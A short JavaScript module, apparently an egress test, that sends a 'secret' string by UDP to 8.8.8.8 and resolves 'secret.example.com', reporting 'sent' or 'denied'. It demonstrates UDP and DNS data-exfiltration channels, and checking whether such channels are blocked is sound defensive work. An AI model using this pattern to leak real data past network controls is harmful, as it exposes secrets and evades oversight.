// Sends data out by UDP and by names to look up.
export default async () => {
  const { createSocket } = await import('node:dgram');
  const { resolve4, setServers } = await import('node:dns/promises');
  const udp = await new Promise((settle) => {
    try { createSocket('udp4').on('error', () => settle(false)).send('secret', 53, '8.8.8.8', (error) => settle(error === null)); } catch { settle(false); }
  });
  setServers(['8.8.8.8']);
  const dns = await Promise.race([resolve4('secret.example.com').then(() => true, () => false), new Promise((settle) => setTimeout(settle, 1000, false))]);
  return udp || dns ? 'sent' : 'denied';
};
